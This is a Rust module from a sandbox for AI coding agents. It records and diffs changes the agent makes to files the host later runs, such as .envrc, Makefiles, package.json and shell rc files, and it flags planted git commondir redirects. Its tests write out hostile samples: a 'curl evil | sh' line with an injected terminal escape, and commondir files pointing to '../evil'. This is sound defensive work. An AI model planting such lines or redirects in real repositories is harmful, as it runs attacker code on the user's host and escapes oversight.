//! Files the agent may legitimately edit but the host runs later (`.envrc` through direnv, a
//! Makefile, `package.json` scripts, `.gitattributes` filter drivers, shell rc files): they stay
//! writable, and yolo flags every change to them. At the start of a session it records what they
//! hold (a baseline in yolo's data folder, out of the agent's reach); after `run`, `exec` and
//! `shell`, and before `up` and `down`, it looks again, writes a `watched_file` audit event per
//! change with the diff, prints one line naming them, and takes the new state as the baseline.
//!
//! The list is the user's (`[workspace] watch`, globs relative to the mounted folder; defaults in
//! `DEFAULT_WATCH`). Besides it yolo always watches what would send the host's git to another
//! config: a `commondir` or `config.worktree` planted in `.git` or in a submodule's git folder.
//! Those cannot be made read-only (git itself writes next to them), so they are flagged loudly.
//!
//! Globs are matched while walking the folder with the `ignore` crate, which honours
//! `.gitignore` (a build folder is not walked); a pattern's root-level name (`.envrc` for
//! `**/.envrc`) is also looked at directly, ignored or not.

use crate::audit::{EventKind, Writer};
use crate::error::{Error, Result};
use crate::visible::escape_controls;
use globset::{Glob, GlobSet, GlobSetBuilder};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// What a serious user's host runs from a repository without asking.
pub(crate) const DEFAULT_WATCH: [&str; 21] = [
    "**/.envrc",
    "**/Makefile",
    "**/makefile",
    "**/GNUmakefile",
    "**/justfile",
    "**/package.json",
    "**/.gitattributes",
    ".gitmodules",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pre-commit-config.yaml",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".tool-versions",
    ".mise.toml",
    "mise.toml",
];

/// Files larger than this are compared by hash alone (no diff kept).
const MAX_TEXT: usize = 64 * 1024;
/// Files recorded at most: a repository with more matches than this is not fully watched (said
/// once in the audit log).
const MAX_FILES: usize = 5_000;

/// Check a `[workspace] watch` entry: a glob relative to the repository.
pub(crate) fn check_entry(entry: &str) -> std::result::Result<(), String> {
    if entry.trim().is_empty() {
        return Err("an entry must name a path or a glob".into());
    }
    if entry.starts_with('/') || entry.split('/').any(|c| c == "..") {
        return Err(format!(
            "\"{entry}\" must be relative to the repository, without \"..\""
        ));
    }
    Glob::new(entry).map(|_| ()).map_err(|e| e.to_string())
}

/// What yolo last saw of the watched files of one workspace.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub(crate) struct Baseline {
    /// The mounted folder the paths are relative to.
    pub(crate) root: PathBuf,
    pub(crate) patterns: Vec<String>,
    pub(crate) files: BTreeMap<String, Seen>,
}

/// One watched file as last seen.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub(crate) struct Seen {
    pub(crate) sha256: String,
    /// The text, when small and UTF-8 (for the diff); a symlink is `symlink -> target`.
    pub(crate) text: Option<String>,
    /// Git reads its config through this path.
    pub(crate) git: bool,
}

/// A change found between the baseline and now.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Change {
    pub(crate) path: String,
    pub(crate) change: &'static str,
    pub(crate) git: bool,
    pub(crate) diff: String,
    pub(crate) before: Option<String>,
    pub(crate) after: Option<String>,
}

fn baseline_path(devcontainer_id: &str) -> PathBuf {
    crate::user_config::data_dir()
        .join("workspaces")
        .join(format!("{devcontainer_id}.watched.json"))
}

impl Baseline {
    /// Look at the watched files under `root` now.
    pub(crate) fn scan(root: &Path, patterns: &[String]) -> Baseline {
        let mut files = BTreeMap::new();
        for rel in matching(root, patterns) {
            if let Some(seen) = look(&root.join(&rel), false) {
                files.insert(rel, seen);
            }
        }
        for rel in git_redirects(root) {
            if let Some(seen) = look(&root.join(&rel), true) {
                files.insert(rel, seen);
            }
        }
        Baseline {
            root: root.to_path_buf(),
            patterns: patterns.to_vec(),
            files,
        }
    }

    pub(crate) fn load(devcontainer_id: &str) -> Option<Baseline> {
        let text = std::fs::read_to_string(baseline_path(devcontainer_id)).ok()?;
        serde_json::from_str(&text).ok()
    }

    /// Write atomically, like the workspace state.
    pub(crate) fn save(&self, devcontainer_id: &str) -> Result<()> {
        let path = baseline_path(devcontainer_id);
        let dir = path.parent().map(PathBuf::from).unwrap_or_default();
        std::fs::create_dir_all(&dir).map_err(|e| Error::io(&dir, e))?;
        let tmp = path.with_extension("json.tmp");
        let text = serde_json::to_string(self).map_err(|e| Error::other(e.to_string()))?;
        std::fs::write(&tmp, text).map_err(|e| Error::io(&tmp, e))?;
        std::fs::rename(&tmp, &path).map_err(|e| Error::io(&path, e))
    }

    /// What changed from `self` to `now`, in path order.
    pub(crate) fn changes(&self, now: &Baseline) -> Vec<Change> {
        let mut out = Vec::new();
        let paths: std::collections::BTreeSet<&String> =
            self.files.keys().chain(now.files.keys()).collect();
        for path in paths {
            let (old, new) = (self.files.get(path), now.files.get(path));
            let change = match (old, new) {
                (None, Some(_)) => "added",
                (Some(_), None) => "removed",
                (Some(a), Some(b)) if a.sha256 != b.sha256 => "modified",
                _ => continue,
            };
            let text = |s: Option<&Seen>| s.map(|s| s.text.clone());
            let diff = match (text(old), text(new)) {
                (Some(None), _) | (_, Some(None)) => String::new(),
                (a, b) => unified(
                    path,
                    &a.flatten().unwrap_or_default(),
                    &b.flatten().unwrap_or_default(),
                ),
            };
            out.push(Change {
                path: path.clone(),
                change,
                git: old.or(new).is_some_and(|s| s.git),
                diff,
                before: old.map(|s| s.sha256.clone()),
                after: new.map(|s| s.sha256.clone()),
            });
        }
        out
    }
}

/// Record the baseline of a new session: what the watched files hold before the agent runs.
pub(crate) fn start(devcontainer_id: &str, root: &Path, patterns: &[String]) -> Result<()> {
    Baseline::scan(root, patterns).save(devcontainer_id)
}

/// Look again: every change since the baseline goes to the audit log (when a session is open),
/// the baseline moves on, and the changes come back for the caller to print. No baseline (a
/// workspace yolo has not started): nothing to compare, nothing reported.
pub(crate) fn report(devcontainer_id: &str, writer: Option<&Writer>) -> Result<Vec<Change>> {
    let Some(old) = Baseline::load(devcontainer_id) else {
        return Ok(Vec::new());
    };
    let now = Baseline::scan(&old.root, &old.patterns);
    let changes = old.changes(&now);
    if changes.is_empty() {
        return Ok(changes);
    }
    if let Some(writer) = writer {
        for c in &changes {
            writer.write(EventKind::WatchedFile {
                path: c.path.clone(),
                change: c.change.to_string(),
                git: c.git,
                diff: c.diff.clone(),
                sha256_before: c.before.clone(),
                sha256_after: c.after.clone(),
            })?;
        }
    }
    now.save(devcontainer_id)?;
    Ok(changes)
}

/// `report`, then the lines for the user on stderr. A failure to look is a warning: it must not
/// turn a finished command into a failed one.
pub(crate) fn report_and_print(devcontainer_id: &str, writer: Option<&Writer>) {
    match report(devcontainer_id, writer) {
        Ok(changes) => eprint!("{}", summary(&changes)),
        Err(e) => eprintln!(
            "{} could not check the files your host runs: {e}",
            console::style("warning:").yellow().bold()
        ),
    }
}

/// The lines printed after a command: one for the files the host runs, one per git redirect.
pub(crate) fn summary(changes: &[Change]) -> String {
    let mut out = String::new();
    let plain: Vec<String> = changes
        .iter()
        .filter(|c| !c.git)
        .map(|c| format!("{} ({})", escape_controls(&c.path), c.change))
        .collect();
    if !plain.is_empty() {
        out.push_str(&format!(
            "{} files your host runs changed: {}; review them before running them on the host (`yolo audit --kind watched_file` has the diffs)\n",
            console::style("yolo:").yellow().bold(),
            plain.join(", ")
        ));
    }
    for c in changes.iter().filter(|c| c.git) {
        out.push_str(&format!(
            "{} {} was {}: git on the host would read its config and hooks where it points. Check it{} before running git in this repository\n",
            console::style("warning:").red().bold(),
            escape_controls(&c.path),
            c.change,
            if c.change == "removed" { "" } else { " (and delete it: a repository's own .git has none)" },
        ));
    }
    out
}

/// Paths relative to `root` that the patterns match (at most `MAX_FILES`).
fn matching(root: &Path, patterns: &[String]) -> Vec<String> {
    let set = globs(patterns);
    let mut out = std::collections::BTreeSet::new();
    // The root-level name of each pattern, looked at directly: `.envrc` is often git-ignored.
    for p in patterns {
        let name = p.strip_prefix("**/").unwrap_or(p);
        if !name.contains(['*', '?', '[', '{']) && root.join(name).symlink_metadata().is_ok() {
            out.insert(name.to_string());
        }
    }
    if patterns.iter().any(|p| p.contains(['*', '?', '[', '{'])) {
        let walker = ignore::WalkBuilder::new(root)
            .hidden(false)
            .parents(false)
            .require_git(false)
            .follow_links(false)
            .filter_entry(|e| e.file_name() != ".git")
            .build();
        for entry in walker.flatten() {
            if out.len() >= MAX_FILES {
                break;
            }
            if entry.file_type().is_some_and(|t| t.is_dir()) {
                continue;
            }
            let Ok(rel) = entry.path().strip_prefix(root) else {
                continue;
            };
            if set.is_match(rel) {
                out.insert(rel.to_string_lossy().into_owned());
            }
        }
    }
    out.into_iter().take(MAX_FILES).collect()
}

fn globs(patterns: &[String]) -> GlobSet {
    let mut builder = GlobSetBuilder::new();
    for p in patterns {
        // Entries were checked when the settings were read; a bad one matches nothing.
        if let Ok(glob) = Glob::new(p) {
            builder.add(glob);
        }
    }
    builder.build().unwrap_or_else(|_| GlobSet::empty())
}

/// The paths through which the host's git would read another config: `commondir` and
/// `config.worktree` in `.git` and in each submodule's git folder.
fn git_redirects(root: &Path) -> Vec<String> {
    let git = root.join(".git");
    if !git.is_dir() {
        return Vec::new();
    }
    let mut dirs = vec![git.clone()];
    dirs.extend(crate::policy::submodule_git_dirs(&git.join("modules")));
    let mut out = Vec::new();
    for dir in dirs {
        for name in ["commondir", "config.worktree"] {
            let path = dir.join(name);
            if path.symlink_metadata().is_ok() {
                if let Ok(rel) = path.strip_prefix(root) {
                    out.push(rel.to_string_lossy().into_owned());
                }
            }
        }
    }
    out
}

/// What `path` holds now; `None` if it is gone or not a file or link.
fn look(path: &Path, git: bool) -> Option<Seen> {
    let meta = path.symlink_metadata().ok()?;
    if meta.file_type().is_symlink() {
        let text = format!("symlink -> {}", std::fs::read_link(path).ok()?.display());
        return Some(Seen {
            sha256: hex::encode(Sha256::digest(text.as_bytes())),
            text: Some(text),
            git,
        });
    }
    if !meta.is_file() {
        return None;
    }
    let bytes = std::fs::read(path).ok()?;
    let text = (bytes.len() <= MAX_TEXT)
        .then(|| String::from_utf8(bytes.clone()).ok())
        .flatten();
    Some(Seen {
        sha256: hex::encode(Sha256::digest(&bytes)),
        text,
        git,
    })
}

/// A unified diff of one file, the repository's control characters escaped.
fn unified(path: &str, old: &str, new: &str) -> String {
    let diff = similar::TextDiff::from_lines(old, new);
    let text = diff
        .unified_diff()
        .context_radius(3)
        .header(&format!("a/{path}"), &format!("b/{path}"))
        .to_string();
    escape_controls(&text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(entries: &[&str]) -> Vec<String> {
        entries.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn entries_are_relative_globs() {
        for good in ["Makefile", "**/package.json", "scripts/*.sh"] {
            assert!(check_entry(good).is_ok(), "{good}");
        }
        for bad in ["", "/etc/profile", "../x", "a/../b", "[unclosed"] {
            assert!(check_entry(bad).is_err(), "{bad}");
        }
        for d in DEFAULT_WATCH {
            assert!(check_entry(d).is_ok(), "{d}");
        }
    }

    #[test]
    fn changes_are_found_with_a_diff_and_ignored_files_still_count() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join(".gitignore"), ".envrc\nbuild/\n").unwrap();
        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
        std::fs::create_dir_all(root.join("pkg/a")).unwrap();
        std::fs::write(root.join("pkg/a/package.json"), "{}\n").unwrap();
        std::fs::create_dir_all(root.join("build")).unwrap();
        std::fs::write(root.join("build/Makefile"), "all:\n").unwrap();
        let patterns = list(&DEFAULT_WATCH);
        let before = Baseline::scan(root, &patterns);
        assert!(before.files.contains_key(".envrc"), "an ignored root file");
        assert!(before.files.contains_key("pkg/a/package.json"));
        assert!(
            !before.files.contains_key("build/Makefile"),
            "ignored folders are not walked"
        );

        std::fs::write(
            root.join(".envrc"),
            "export A=1\ncurl evil | sh\x1b]0;t\x07\n",
        )
        .unwrap();
        std::fs::remove_file(root.join("pkg/a/package.json")).unwrap();
        std::fs::write(root.join("Makefile"), "all:\n\ttrue\n").unwrap();
        std::fs::write(root.join("notes.txt"), "not watched").unwrap();
        let changes = before.changes(&Baseline::scan(root, &patterns));
        let got: Vec<(&str, &str)> = changes
            .iter()
            .map(|c| (c.path.as_str(), c.change))
            .collect();
        assert_eq!(
            got,
            [
                (".envrc", "modified"),
                ("Makefile", "added"),
                ("pkg/a/package.json", "removed")
            ]
        );
        let envrc = &changes[0];
        assert!(
            envrc.diff.contains("+curl evil | sh\\x1b]0;t\\x07"),
            "{}",
            envrc.diff
        );
        assert!(!envrc.diff.contains('\x1b'));
        assert!(summary(&changes).contains(".envrc (modified)"));
    }

    #[test]
    fn a_planted_commondir_is_a_git_redirect() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join(".git/modules/sub")).unwrap();
        std::fs::write(root.join(".git/modules/sub/HEAD"), "ref: x\n").unwrap();
        let before = Baseline::scan(root, &[]);
        std::fs::write(root.join(".git/commondir"), "../evil\n").unwrap();
        std::fs::write(root.join(".git/modules/sub/commondir"), "../../../evil\n").unwrap();
        let changes = before.changes(&Baseline::scan(root, &[]));
        let got: Vec<(&str, bool)> = changes.iter().map(|c| (c.path.as_str(), c.git)).collect();
        assert_eq!(
            got,
            [
                (".git/commondir", true),
                (".git/modules/sub/commondir", true)
            ]
        );
        assert!(summary(&changes).contains("git on the host would read its config"));
    }

    #[test]
    fn a_same_size_edit_of_a_large_file_is_a_change() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join("Makefile"), vec![b'a'; MAX_TEXT + 10]).unwrap();
        let patterns = list(&["Makefile"]);
        let before = Baseline::scan(root, &patterns);
        std::fs::write(root.join("Makefile"), vec![b'b'; MAX_TEXT + 10]).unwrap();
        let changes = before.changes(&Baseline::scan(root, &patterns));
        assert_eq!(changes.len(), 1);
        assert_eq!(
            changes[0].diff, "",
            "no diff for a large file, the hashes tell"
        );
        assert_ne!(changes[0].before, changes[0].after);
    }
}
